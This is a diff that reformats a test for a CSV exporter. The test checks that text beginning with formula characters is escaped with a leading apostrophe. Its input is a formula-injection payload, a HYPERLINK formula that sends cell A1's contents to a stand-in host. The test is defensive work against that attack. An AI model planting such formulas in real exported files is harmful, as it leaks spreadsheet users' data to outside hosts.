@@ -41,10 +41,13 @@ describe('records as CSV', () => {
     }
   });
 
-  it.each(['=', '+', '-', '@', '\t', '\r'])('write a text that begins with %j as no formula', (sign) => {
-    const text = `${sign}HYPERLINK("http://elsewhere.example?"&A1)`;
-    expect(errorTextIn({ error_text: text })).toBe(`'${text}`);
-  });
+  it.each(['=', '+', '-', '@', '\t', '\r'])(
+    'write a text that begins with %j as no formula',
+    (sign) => {
+      const text = `${sign}HYPERLINK("http://elsewhere.example?"&A1)`;
+      expect(errorTextIn({ error_text: text })).toBe(`'${text}`);
+    },
+  );
 
   it('leave numbers as they are', () => {
     expect(csvRecords([recordWith({ rows: -1 })])).toContain(',-1,');
